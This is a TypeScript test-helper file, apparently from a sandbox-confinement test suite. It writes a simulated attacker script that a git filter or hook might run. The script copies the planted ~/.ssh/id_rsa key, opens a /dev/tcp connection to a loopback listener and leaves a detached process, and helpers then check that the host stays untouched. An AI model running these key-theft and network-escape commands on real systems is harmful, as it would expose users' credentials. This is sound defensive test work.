import fs from 'node:fs';
import path from 'node:path';
import { expect } from 'vitest';
import type { Host } from './harness';

/**
 * The program an attacker makes something on the workspace's side run (a git filter, hook, pager, an MCP
 * server …): it tries every way out the host can see — a marker file in `outside`, a copy of the planted
 * ~/.ssh/id_rsa there and in the workspace, a connection to the loopback listener, a child that calls setsid
 * and sleeps on — then passes its input through (`cat`), as a filter must. Run confined, each try fails.
 */
export interface Payload {
  /** the script's path (inside the workspace: the workspace's own choice) */
  file: string;
  /** the text a leftover process carries on its command line (found by `leftovers()`) */
  sleeper: string;
}

let counter = 0;

/** Write the payload script for one case into the workspace (as the host's user); returns where it is. */
export async function plantPayload(host: Host, name: string, o: { setsid?: boolean } = {}): Promise<Payload> {
  // a duration nothing else on the machine sleeps for: the process can be found by it afterwards
  const sleeper = `${4_000_000 + process.pid * 100 + (counter++ % 100)}`;
  const file = path.join(host.workspace, '.attack', `${name}.sh`);
  const q = (s: string) => `'${s.split("'").join("'\\''")}'`;
  const lines = [
    '#!/bin/bash',
    `: > ${q(path.join(host.outside, `ran-${name}`))} 2>/dev/null`,
    `cp ${q(path.join(host.home, '.ssh/id_rsa'))} ${q(path.join(host.outside, `stolen-${name}`))} 2>/dev/null`,
    `cat ${q(path.join(host.home, '.ssh/id_rsa'))} > ${q(path.join(host.workspace, `.stolen-${name}`))} 2>/dev/null`,
    `(exec 3<>/dev/tcp/127.0.0.1/${host.port}) 2>/dev/null`,
    ...(o.setsid ? [`setsid sleep ${sleeper} </dev/null >/dev/null 2>&1 &`] : []),
    'exec cat',
  ];
  const r = await host.run('bash', ['-c', `mkdir -p ${q(path.dirname(file))} && cat > ${q(file)} && chmod +x ${q(file)}`], { input: `${lines.join('\n')}\n` });
  if (r.code !== 0) throw new Error(`could not plant the payload: ${r.stderr}`);
  return { file, sleeper };
}

/** Processes on the host whose command line holds `text` (pids). */
export function leftovers(text: string): number[] {
  const out: number[] = [];
  for (const d of fs.readdirSync('/proc')) {
    if (!/^\d+$/.test(d) || Number(d) === process.pid) continue;
    try {
      const cmd = fs.readFileSync(`/proc/${d}/cmdline`, 'utf8').split('\0').join(' ');
      if (cmd.includes(text)) out.push(Number(d));
    } catch {
      // gone meanwhile
    }
  }
  return out;
}

/** Stop what a failing case left behind (the processes its own payload started). */
export function killLeftovers(text: string): void {
  for (const pid of leftovers(text)) {
    try {
      process.kill(pid, 'SIGKILL');
    } catch {
      // gone
    }
  }
}

/**
 * The host shows no sign of the payload: nothing created, changed or removed outside the workspace or in
 * HOME, no connection to the listener, no key copied into the workspace, no key in the texts given (the tool's
 * results), and no process of its left running.
 */
export function expectHostUntouched(host: Host, p: Payload | undefined, texts: string[] = []): void {
  try {
    expect(host.outsideTouched(), 'files outside the workspace').toEqual([]);
    expect(host.hits(), 'connections to the loopback listener').toBe(0);
    for (const f of fs.readdirSync(host.workspace).filter((n) => n.startsWith('.stolen-'))) {
      expect(host.leaked(fs.readFileSync(path.join(host.workspace, f), 'utf8')), `the key copied into ${f}`).toBe(false);
    }
    for (const t of texts) expect(host.leaked(t), 'a result carrying the key').toBe(false);
    if (p) expect(leftovers(p.sleeper), 'processes left running on the host').toEqual([]);
  } finally {
    if (p) killLeftovers(p.sleeper);
  }
}

/** Run a bash script in the workspace as the host's user; throws with its output when it fails. */
export async function sh(host: Host, script: string): Promise<string> {
  const r = await host.run('bash', ['-c', `set -e\n${script}`], { env: host.env({ GIT_CONFIG_NOSYSTEM: '1' }) });
  if (r.code !== 0) throw new Error(`setup failed (exit ${r.code}): ${r.stderr}\n${r.stdout}`);
  return r.stdout;
}

/** A repository with one commit of a.txt (main), its author set in its own config. */
export const REPO = [
  'git init -q -b main',
  'git config user.name "Ada Tester"',
  'git config user.email ada@example.com',
  'printf "one\\n" > a.txt',
  'git add a.txt',
  'git commit -q -m "first commit"',
].join('\n');

/** a.txt with a new mtime but the same bytes: git must read it (through any clean filter) to know it is unchanged */
export const TOUCH = 'touch -d @1000000000 a.txt';
